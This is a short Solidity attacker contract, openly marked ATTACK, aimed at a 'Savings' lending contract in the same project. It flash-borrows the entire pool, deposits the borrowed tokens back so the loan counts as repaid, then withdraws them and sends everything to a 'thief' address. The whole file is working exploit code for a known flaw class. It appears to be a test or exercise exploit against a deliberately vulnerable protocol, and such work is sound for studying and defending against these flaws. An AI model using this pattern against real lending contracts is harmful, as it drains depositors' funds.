// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ISavingsBorrower, Savings} from "../protocol/savings/Savings.sol";

/// @title LoanRepaidByDeposit
/// @notice ATTACK. Borrows everything that the savings hold, deposits it as its own, so that the loan counts as repaid,
/// and withdraws it.
contract LoanRepaidByDeposit is ISavingsBorrower {
    Savings private immutable _target;
    address private immutable _thief;

    error NotExpected();

    constructor(Savings target, address thief) {
        _target = target;
        _thief = thief;
    }

    /// @notice Takes all, in one transaction.
    function run() external {
        IERC20 asset = _target.asset();
        uint256 amount = asset.balanceOf(address(_target));
        _target.flashLoan(amount);
        _target.withdraw(amount);
        // forge-lint: disable-next-line(erc20-unchecked-transfer)
        asset.transfer(_thief, asset.balanceOf(address(this)));
    }

    /// @inheritdoc ISavingsBorrower
    function onLoan(uint256 amount) external {
        if (msg.sender != address(_target)) revert NotExpected();
        _target.asset().approve(address(_target), amount);
        _target.deposit(amount);
    }
}
